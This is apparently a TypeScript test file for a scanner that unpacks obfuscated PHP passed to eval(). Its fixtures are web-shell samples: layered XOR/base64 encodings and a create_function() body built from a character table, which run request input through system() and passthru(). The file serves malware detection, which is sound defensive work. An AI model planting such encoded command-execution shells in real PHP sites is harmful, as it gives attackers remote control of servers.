/**
 * The constant PHP evaluator (src/scan/analyzers/php/interp*.ts): encoders whose payload only
 * appears when the file's own PHP runs (a decoder function over a blob, names picked out of a
 * character table, create_function() over array pieces) are read, and what they hand to eval()
 * is analyzed as a decoded layer. Fixtures are written for this test and are inert text; each
 * positive has a benign look-alike with its exact outcome, and hostile inputs must end quickly.
 */
import { test } from 'node:test';
import assert from 'node:assert/strict';
import { findingOf, reasons } from './helpers.js';
import { runConstantPhp } from '../../src/scan/analyzers/php/interp.js';

const verdict = (name: string, code: string): [string | undefined, string[]] => {
  const f = findingOf(name, code);
  return [f?.verdict, reasons(f)];
};

const b64 = (s: string) => Buffer.from(s, 'latin1').toString('base64');
const rev = (s: string) => [...s].reverse().join('');
const pct = (s: string) => [...s].map((c) => `%${c.charCodeAt(0).toString(16)}`).join('');

test('php evaluator: a decoder function over a blob, its name read from a character table', () => {
  // the payload: a posted command run, kept reversed, base64-encoded and XORed with 7 byte-wise
  const inner = 'echo "<h1>Maintenance console of the storage service</h1>"; if (isset($_POST["q"])) { system($_POST["q"]); }';
  const blob = b64([...rev(b64(inner))].map((c) => String.fromCharCode(c.charCodeAt(0) ^ 7)).join(''));
  const code = `<?php
$T = urldecode('${pct('base64_dcorevtx')}');
$d = $T{0}.$T{1}.$T{2}.$T{3}.$T{4}.$T{5}.$T{6}.$T{7}.$T{3}.$T{8}.$T{9}.$T{7}.$T{3};
function unwrap($s, $f) { $o = ''; $r = $f($s); for ($i = 0; $i < strlen($r); $i++) { $o .= chr(ord($r[$i]) ^ 7); } return strrev($o); }
$payload = "${blob}";
eval($d(unwrap($payload, $d)));
`;
  const [v, why] = verdict('enc.php', code);
  assert.equal(v, 'malicious');
  assert.ok(why.includes("code decoded by the file's own PHP and handed to eval()"), why.join('; '));
  assert.ok(why.includes('request input reaches system()'), why.join('; '));
  // the same decoder printing a template it decoded: nothing runs
  const ok = code.replace('eval($d(unwrap($payload, $d)));', 'echo htmlspecialchars($d(unwrap($payload, $d)));');
  assert.deepEqual(verdict('tpl.php', ok), [undefined, []]);
});

test('php evaluator: create_function() body assembled from an array of characters, called with a blob', () => {
  const body = 'eval(base64_decode($v));';
  const chars = [...new Set(body)];
  const pieces = [...body].map((c) => `$a[${chars.indexOf(c)}]`).join('.');
  const list = chars.map((c) => `'${c === "'" ? "\\'" : c}'`).join(',');
  const run = 'if (isset($_GET["x"])) { passthru($_GET["x"]); } else { echo "<p>Nothing to do here: the queue of the worker is empty.</p>"; }';
  const code = `<?php\n$a = array(${list});\n$f = create_function('$' . 'v', ${pieces});\n$f('${b64(run)}');\n`;
  assert.deepEqual(
    runConstantPhp(code).map((r) => [r.sink, r.code]),
    [
      ['create_function', body],
      ['eval', run],
    ],
  );
  const [v, why] = verdict('cf.php', code);
  assert.equal(v, 'malicious');
  assert.ok(why.includes('request input reaches passthru()'), why.join('; '));
});

test('php evaluator: arithmetic, loops, branches on unknown input and by-value arrays', () => {
  const code = `<?php
$n = 65 - 1; $name = "base" . $n . "_decode";
$parts = []; foreach (array('ev', 'al') as $k => $p) { $parts[] = $p; }
$copy = $parts; $copy[] = 'x';
if ($_GET['a']) { $mode = 1; } else { $mode = 2; }
$i = 0; while ($i < 3) { $i++; }
eval($name('${b64('$r = ' + "'ran';")}') . " // " . implode('', $parts) . count($copy) . $i);
`;
  assert.deepEqual(
    runConstantPhp(code).map((r) => r.code),
    ["$r = 'ran'; // eval33"],
  );
});

test('php evaluator: hostile loops and recursion end within their budget', () => {
  const loops = `<?php\n$s = str_repeat('${'A'.repeat(100)}', 2);\nwhile (true) { $s .= $s; }\nfunction f($x) { return f($x . 'a'); }\nf('');\nfor (;;) { $k[] = 1; }\neval(base64_decode($s));\n`;
  const t0 = Date.now();
  assert.deepEqual(runConstantPhp(loops), []);
  assert.ok(Date.now() - t0 < 4000, `took ${Date.now() - t0} ms`);
  // unbalanced and truncated input is read to its end without throwing
  assert.deepEqual(runConstantPhp('<?php $a = array(1, 2; eval(base64_decode("'), []);
  assert.deepEqual(runConstantPhp('<?php function ( { } } ) ] $$$ ${ eval('), []);
  // nesting deeper than the stack ends the run, not the analysis
  const deep = `<?php eval('x'); $a = ${'('.repeat(200000)}1${')'.repeat(200000)}; eval(base64_decode('${'QUFB'.repeat(40)}'));`;
  assert.deepEqual(
    runConstantPhp(deep).map((r) => r.code),
    ['x'],
  );
});

test('php evaluator: an if whose arm the code cuts off (`if (1)`, a last `elseif`) runs nothing and throws nothing', () => {
  for (const cut of ['<?php if (1)', '<?php if ($a) x(); elseif', '<?php if (1) echo 1; else', '<?php while (1) if (1)']) assert.deepEqual(runConstantPhp(cut), [], cut);
  // the payload before the cut still runs
  const found = runConstantPhp(`<?php $p = base64_decode('${Buffer.from('echo 1;').toString('base64')}'); eval($p); if (1)`);
  assert.deepEqual(
    found.map((r) => r.code),
    ['echo 1;'],
  );
});
